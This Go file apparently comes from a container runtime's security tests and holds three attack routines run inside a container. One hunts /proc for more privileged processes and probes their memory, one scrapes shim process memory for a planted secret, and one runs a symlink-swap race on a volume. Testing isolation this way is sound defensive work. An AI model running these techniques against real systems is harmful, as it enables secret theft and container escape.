package security

import (
	"bytes"
	"fmt"
	"iter"
	"os"
	"slices"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// attacks run as the first process of a container. They write "ready" when they
// are under way and what they have got hold of; they end by being removed.
var attacks = map[string]func(){
	"watch": watchForPrivileges,
	"read":  readMemory,
	"swap":  swapForASymlink,
}

// watchForPrivileges looks for processes that may do more than itself.
func watchForPrivileges() {
	own := capabilities("self")
	seen := map[uint64]bool{}
	fmt.Println("ready")
	for pid := range others() {
		caps := capabilities(pid)
		if caps&^own == 0 || seen[caps] {
			continue
		}
		seen[caps] = true
		mem := "closed"
		if f, err := os.OpenFile("/proc/"+pid+"/mem", os.O_RDWR, 0); err == nil {
			f.Close()
			mem = "open"
		}
		fmt.Printf("got: process %s with capabilities %x and its memory is %s\n", pid, caps, mem)
	}
}

func capabilities(pid string) uint64 {
	caps, _ := strconv.ParseUint(field("/proc/"+pid+"/status", "CapPrm:"), 16, 64)
	return caps
}

// others goes through the processes in sight but this one, again and again.
func others() iter.Seq[string] {
	self := strconv.Itoa(os.Getpid())
	return func(yield func(string) bool) {
		for {
			dir, err := os.Open("/proc")
			if err != nil {
				continue
			}
			names, _ := dir.Readdirnames(-1)
			dir.Close()
			for _, pid := range names {
				if pid[0] >= '0' && pid[0] <= '9' && pid != self && !yield(pid) {
					return
				}
			}
		}
	}
}

// readMemory looks for $SECRET, written backwards, in the memory of processes
// that are about to execute something but have not yet.
func readMemory() {
	secret := []byte(os.Getenv("SECRET"))
	slices.Reverse(secret)
	read, found := 0, 0
	fmt.Println("ready")
	for pid := range others() {
		if exe, _ := os.Readlink("/proc/" + pid + "/exe"); !strings.Contains(exe, "gantry-shim") {
			continue
		}
		mem, err := os.Open("/proc/" + pid + "/mem")
		if err != nil {
			continue
		}
		maps, _ := os.ReadFile("/proc/" + pid + "/maps")
		for line := range strings.Lines(string(maps)) {
			var from, to int64
			if n, _ := fmt.Sscanf(line, "%x-%x rw-p", &from, &to); n != 2 || to-from > 64<<20 {
				continue
			}
			buf := make([]byte, to-from)
			n, _ := mem.ReadAt(buf, from)
			if n > 0 {
				read++
			}
			if bytes.Contains(buf[:n], secret) {
				found++
				fmt.Printf("got: the secret in the memory of process %s at %x\n", pid, from)
			}
		}
		mem.Close()
		if read > 0 {
			fmt.Println("read", read, "found", found)
		}
	}
}

func field(file, name string) string {
	text, _ := os.ReadFile(file)
	for line := range strings.Lines(string(text)) {
		if rest, ok := strings.CutPrefix(line, name); ok {
			return strings.TrimSpace(rest)
		}
	}
	return ""
}

// swapForASymlink keeps exchanging the directory /volume/place with a symlink
// to $TARGET.
func swapForASymlink() {
	if err := os.Mkdir("/volume/place", 0o755); err != nil {
		fmt.Println(err)
	}
	if err := os.Symlink(os.Getenv("TARGET"), "/volume/link"); err != nil {
		fmt.Println(err)
	}
	fmt.Println("ready")
	for end := time.Now().Add(time.Minute); time.Now().Before(end); {
		unix.Renameat2(unix.AT_FDCWD, "/volume/place", unix.AT_FDCWD, "/volume/link", unix.RENAME_EXCHANGE)
	}
}
